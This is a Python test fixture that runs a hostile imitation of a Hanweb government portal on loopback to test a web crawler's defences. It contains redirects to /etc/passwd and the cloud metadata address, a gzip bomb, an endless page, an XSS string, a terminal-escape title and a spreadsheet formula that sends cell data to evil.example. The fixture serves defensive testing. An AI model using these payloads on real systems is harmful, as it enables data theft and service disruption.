"""A hostile Hanweb portal on loopback: what an attacker (or a careless editor) can put in a
catalog or a page, served by a real HTTP server so the real spider meets it.

Each unit carries one family of attacks: links the crawler must not follow (`javascript:`,
`file://`, `ftp://`, another port, redirects to them), a catalog that claims ten million
records and pages forever, a page that never ends, a gzip bomb, and page text made to break
terminals, spreadsheets, reports and regexes. A second server on another port of the same
host counts the requests that should never have reached it.
"""
from __future__ import annotations

import functools
import gzip
import threading
from dataclasses import dataclass, field
from html import escape
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from urllib.parse import parse_qs, urlsplit

PROXY = "/module/web/jpage/dataproxy.jsp"
ESC_TITLE = "终端\x1b]8;;http://evil.example/\x1b\\点我\x1b]8;;\x1b\\\x1b[31m变红\x1b[0m"
MARKUP_TITLE = "[/red]标题[bold]未闭合"
FORMULA_TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'
XSS_TITLE = '<script>alert("xss")</script><img src=x onerror=alert(1)>'
HUGE_PUBLISHER = "桐乡市" * 20_000  # 60,000 characters, many 市: the META-3 backtracking trap

UNITS = {
    "links": ("链接测试镇", "/col/links/index.html"),
    "budget": ("巨量目录局", "/col/budget/index.html"),
    "sizes": ("大页面街道", "/col/sizes/index.html"),
    "text": ("[/bold]文本测试办", "/col/text/index.html"),
    "garbled": ("乱码参数镇", "/col/garbled/index.html"),
}
FAT_UNIT = ("大文件镇", "/col/fat/index.html")  # only in the full-disk test's site config
FAT_PAGE = ("<p>" + "公开" * 50_000 + "</p>")  # ~300 KB of UTF-8 per page


def detail_html(title: str, publisher: str = "桐乡市测试局", attachments: list[str] = ()) -> str:
    links = "".join(f'<p><a href="{escape(a)}">附件{i}</a></p>' for i, a in enumerate(attachments))
    return f"""<!DOCTYPE html><html><head><meta charset="utf-8"><title>{escape(title)}</title>
<meta name="ArticleTitle" content="{escape(title)}"></head><body>
<table class="xxgk_table"><tr><td>索引号：</td><td>001-2024-000001</td><td>发布机构：</td><td>{escape(publisher)}</td></tr>
<tr><td>发文日期：</td><td>2024-03-01</td><td>文号：</td><td>桐政〔2024〕1号</td></tr></table>
<div id="zoom"><p>{escape(title)}。本文件自发布之日起施行。</p>{links}</div></body></html>"""


def record(href: str, title: str, date: str = "2024-03-01") -> str:
    return f'<record><![CDATA[<li><a href="{escape(href)}" title="{escape(title)}">{escape(title)}</a><span>{date}</span></li>]]></record>'


def catalog_html(name: str, records: list[str], total: int, per_page: int = 15) -> str:
    return f"""<!DOCTYPE html><html><head><meta charset="utf-8"><title>{escape(name)}</title></head><body>
<div id="u1"><script type="text/xml"><datastore><recordset>
{chr(10).join(records)}
</recordset></datastore></script></div>
<script type="text/javascript">
var param_u1 = {{col:1,appid:1,webid:1,path:'/',columnid:9,sourceContentType:1,unitid:'u1',webname:'x',permissiontype:0}};
$(function(){{ $('#u1').jpage({{totalRecord:{total},groupSize:3,proxyUrl:'{PROXY}',perPage:{per_page},ajaxParam:param_u1}}); }});
</script></body></html>"""


@dataclass
class HostileSite:
    """Start with `.start()`, stop with `.stop()`; `url` is the portal, `other_url` the second port."""

    hits: dict[str, int] = field(default_factory=dict)
    other_hits: list[str] = field(default_factory=list)

    def start(self) -> "HostileSite":
        self._other = _serve(_counting_handler(self.other_hits))
        self.other_url = f"http://127.0.0.1:{self._other.server_address[1]}"
        self._server = _serve(_portal_handler(self))
        self.url = f"http://127.0.0.1:{self._server.server_address[1]}/"
        return self

    def stop(self) -> None:
        for server in (self._server, self._other):
            server.shutdown()
            server.server_close()

    def site_config(self, directory: Path, politeness: str = "{concurrency_per_host: 8, delay: 0}",
                    units: list[tuple[str, str]] | None = None, name: str = "hostile") -> Path:
        units = "\n".join(f"  - {{name: '{unit}', level: township, catalog: {path}}}"
                          for unit, path in (units or UNITS.values()))
        path = directory / f"{name}.yml"
        path.write_text(f"name: {name}\ncms: hanweb\nbase_url: {self.url}\nallow_private_hosts: true\n"
                        f"politeness: {politeness}\nunits:\n{units}\n", encoding="utf-8")
        return path

    # what each path answers -----------------------------------------------------------------
    def links_catalog(self) -> str:
        port = self.url.rstrip("/").rsplit(":", 1)[1]
        bad = [
            ("javascript:void(0)", "脚本链接"), ("mailto:zwgk@example.org", "邮件链接"),
            ("data:text/html,<script>alert(1)</script>", "数据链接"),
            ("file://127.0.0.1/etc/passwd", "本机文件"), ("file:///proc/self/environ", "进程环境"),
            ("file:///dev/zero", "无尽文件"), (f"ftp://127.0.0.1:{port}/pub/a.html", "FTP链接"),
            (f"{self.other_url}/art/other-port.html", "另一端口"), ("http://[::1/art/broken.html", "畸形链接"),
            ("/art/redirect-file.html", "跳转到本机文件"), ("/art/redirect-ftp.html", "跳转到FTP"),
            ("/art/redirect-port.html", "跳转到另一端口"), ("/art/redirect-metadata.html", "跳转到云元数据"),
        ]
        records = [record("/art/good-1.html", "正常文件一")]
        records += [record(href, title) for href, title in bad]
        records += [record("/art/good-2.html", "正常文件二"), record("/art/attachments.html", "附件测试")]
        return catalog_html(UNITS["links"][0], records, total=len(records), per_page=100)

    def answer(self, path: str, query: dict[str, list[str]]) -> tuple[int, dict[str, str], bytes]:
        port = self.url.rstrip("/").rsplit(":", 1)[1]
        # Validators make pages cacheable (the crawl's HTTP cache keeps only revalidatable pages).
        html = {"Content-Type": "text/html; charset=utf-8", "Last-Modified": "Fri, 01 Mar 2024 00:00:00 GMT"}
        redirects = {
            "/art/redirect-file.html": "file:///etc/passwd",
            "/art/redirect-ftp.html": f"ftp://127.0.0.1:{port}/pub/a.html",
            "/art/redirect-port.html": f"{self.other_url}/art/redirected.html",
            "/art/redirect-metadata.html": "http://169.254.169.254/latest/meta-data/",
        }
        if path == "/robots.txt":
            return 404, html, b""
        if path == UNITS["links"][1]:
            return 200, html, self.links_catalog().encode()
        if path in redirects:
            return 302, {"Location": redirects[path]}, b""
        if path in ("/art/good-1.html", "/art/good-2.html"):
            return 200, html, detail_html("正常文件" + path[-6]).encode()
        if path == "/art/attachments.html":
            attachments = ["javascript:window.open('/files/real.pdf?')", "file:///etc/passwd#.pdf", "http://[::1/x.pdf",
                           "/files/real.pdf"]
            return 200, html, detail_html("附件测试", attachments=attachments).encode()
        if path == "/files/real.pdf":
            return 200, {"Content-Type": "application/pdf"}, b"%PDF-1.4\n"
        if path == UNITS["budget"][1]:  # claims ten million records, delivers 45 at a time forever
            records = [record(f"/big/{i}.html", f"第{i}号文件") for i in range(1, 46)]
            return 200, html, catalog_html(UNITS["budget"][0], records, total=10_000_000).encode()
        if path == PROXY:
            start = int((query.get("startrecord") or ["1"])[0])
            if "page" in query:
                start = (int(query["page"][0]) - 1) * 45 + 1
            body = "".join(record(f"/big/{i}.html", f"第{i}号文件") for i in range(start, start + 45))
            return 200, {"Content-Type": "text/xml;charset=UTF-8"}, (
                f'<?xml version="1.0" encoding="UTF-8"?><datastore><totalrecord>10000000</totalrecord>'
                f"<recordset>{body}</recordset></datastore>").encode()
        if path == FAT_UNIT[1]:
            records = [record(f"/fat/{i}.html", f"大文件{i}") for i in range(1, 201)]
            return 200, html, catalog_html(FAT_UNIT[0], records, total=200, per_page=100).encode()
        if path.startswith("/fat/"):
            return 200, html, detail_html("大文件").replace("</div>", FAT_PAGE + "</div>", 1).encode()
        if path.startswith("/big/"):
            return 200, html, detail_html("巨量目录中的文件").encode()
        if path == UNITS["garbled"][1]:  # records, then paging parameters no parser expects
            records = [record("/art/garbled-doc.html", "正常小页面")]
            page = catalog_html(UNITS["garbled"][0], records, total=2)
            page = page.replace("totalRecord:2", "totalRecord:" + "9" * 5000).replace("perPage:15", "perPage:abc")
            return 200, html, page.encode()
        if path == UNITS["sizes"][1]:
            records = [record("/art/endless.html", "无尽页面"), record("/art/bomb.html", "压缩炸弹"),
                       record("/art/small.html", "正常小页面")]
            return 200, html, catalog_html(UNITS["sizes"][0], records, total=3).encode()
        if path in ("/art/small.html", "/art/garbled-doc.html"):
            return 200, html, detail_html("正常小页面").encode()
        if path == "/art/bomb.html":
            return 200, {**html, "Content-Encoding": "gzip"}, gzip_bomb()
        if path == UNITS["text"][1]:
            records = [record("/art/esc.html", ESC_TITLE), record("/art/markup.html", MARKUP_TITLE),
                       record("/art/formula.html", FORMULA_TITLE), record("/art/xss.html", XSS_TITLE),
                       record("/art/publisher.html", "超长发布机构")]
            return 200, html, catalog_html(UNITS["text"][0], records, total=len(records)).encode()
        titles = {"/art/esc.html": ESC_TITLE, "/art/markup.html": MARKUP_TITLE,
                  "/art/formula.html": FORMULA_TITLE, "/art/xss.html": XSS_TITLE}
        if path in titles:
            return 200, html, detail_html(titles[path]).encode()
        if path == "/art/publisher.html":
            return 200, html, detail_html("超长发布机构", publisher=HUGE_PUBLISHER).encode()
        return 404, html, b"not found"


@functools.cache
def gzip_bomb() -> bytes:
    return gzip.compress(b"\0" * (64 * 1024 * 1024), compresslevel=9)  # 64 MiB of zeros in ~64 KiB


ENDLESS_BYTES = 50 * 1024 * 1024


def _serve(handler: type[BaseHTTPRequestHandler]) -> ThreadingHTTPServer:
    server = ThreadingHTTPServer(("127.0.0.1", 0), handler)
    server.daemon_threads = True
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return server


def _portal_handler(site: HostileSite) -> type[BaseHTTPRequestHandler]:
    class Handler(BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"  # keep-alive, as real portals: every answer has a length but one

        def log_message(self, *args: object) -> None:
            pass

        def do_HEAD(self) -> None:
            self.do_GET(head=True)

        def do_POST(self) -> None:
            length = int(self.headers.get("Content-Length") or 0)
            form = parse_qs(self.rfile.read(length).decode())
            self.do_GET(extra=form)

        def do_GET(self, head: bool = False, extra: dict | None = None) -> None:
            parts = urlsplit(self.path)
            site.hits[parts.path] = site.hits.get(parts.path, 0) + 1
            if parts.path == "/art/endless.html":  # 50 MB, no Content-Length: ends when the socket does
                self.close_connection = True
                self.send_response(200)
                self.send_header("Content-Type", "text/html; charset=utf-8")
                self.send_header("Connection", "close")
                self.end_headers()
                chunk = b"<p>" + b"x" * 65536 + b"</p>"
                try:
                    for _ in range(ENDLESS_BYTES // len(chunk)):
                        self.wfile.write(chunk)
                except OSError:
                    pass  # the crawler hung up, as it should
                return
            status, headers, body = site.answer(parts.path, {**parse_qs(parts.query), **(extra or {})})
            self.send_response(status)
            for name, value in headers.items():
                self.send_header(name, value)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            if not head:
                self.wfile.write(body)

    return Handler


def _counting_handler(hits: list[str]) -> type[BaseHTTPRequestHandler]:
    class Handler(BaseHTTPRequestHandler):
        def log_message(self, *args: object) -> None:
            pass

        def do_GET(self) -> None:
            hits.append(self.path)
            body = detail_html("不该被抓取的页面").encode()
            self.send_response(200)
            self.send_header("Content-Type", "text/html; charset=utf-8")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        do_HEAD = do_GET

    return Handler
